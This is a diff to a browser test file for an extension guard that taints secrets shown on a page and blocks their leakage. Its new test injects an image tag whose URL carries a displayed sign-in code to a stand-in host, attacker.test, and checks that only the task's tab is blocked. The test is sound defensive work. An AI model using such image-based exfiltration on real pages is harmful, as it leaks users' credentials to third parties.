@@ -146,7 +146,7 @@ async function taintRecorded(browser: AgentBrowser, secret: Secret): Promise<voi
   const deadline = Date.now() + 15_000;
   const keyPiece = secret.key.slice(8, 20);
   while (Date.now() < deadline) {
-    const filters = new Set((await browser.sessionRules()).map((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter));
+    const filters = new Set((await browser.floorRules()).map((r) => (r as { condition: { urlFilter?: string } }).condition.urlFilter));
     if (filters.has(secret.code) && filters.has(keyPiece)) return;
     await sleep(100);
   }
@@ -238,6 +238,45 @@ for (const variant of ['full', 'nohooks'] as const) {
     });
   });
 }
+
+/**
+ * The taint's rules are dynamic rules, which cannot name tabs: session allow rules keep them off every
+ * request outside the guard's scope (src/background/dnr.ts, buildTaintRules). With guard scope
+ * `task-tabs`, a tab the task did not start in sends what it likes; the task's tab cannot send the secret
+ * it showed. No MAIN-world hooks, so the floor alone decides both.
+ */
+test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () => {
+  test('the task tab cannot carry the shown secret to attacker.test; a tab outside the task can', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('nohooks');
+    try {
+      await browser.setOptions({ guardScope: 'task-tabs' });
+      const id = `scope${++caseNumber}`;
+      const secret = newSecret();
+      server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Your API key: <code>${secret.key}</code></p><p>Sign-in code: ${secret.code}</p>`);
+      server.setPage(`/other/${id}`, `<!doctype html><title>other</title><p>Another tab</p>`);
+      const taskTab = await browser.context.newPage();
+      await taskTab.goto(`${server.origin(HOME)}/show/${id}`);
+      await taskTab.bringToFront();
+      await browser.setPolicy(READ_ONLY); // the task starts in the active tab
+      await taskTab.reload();
+      await taintRecorded(browser, secret);
+      // An image: a dependency from an unnamed site in the ordinary shape, which only the taint refuses.
+      const send = (page: Page, path: string) => page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}${path}`);
+
+      const otherTab = await browser.context.newPage();
+      await otherTab.goto(`${server.origin('other.test')}/other/${id}`);
+      await send(otherTab, `/${id}/other/${secret.code}.png`);
+      await server.waitFor(`/${id}/other/`, ATTACKER, 2 * QUIET_MS);
+
+      await send(taskTab, `/${id}/task/${secret.code}.png`);
+      await sleep(QUIET_MS);
+      expect(server.hits(`/${id}/task/`, ATTACKER), 'the task tab reached attacker.test').toHaveLength(0);
+    } finally {
+      await browser.close();
+    }
+  });
+});
 
 test.describe('floor exfiltration without the extension (negative control)', () => {
   let browser: AgentBrowser;
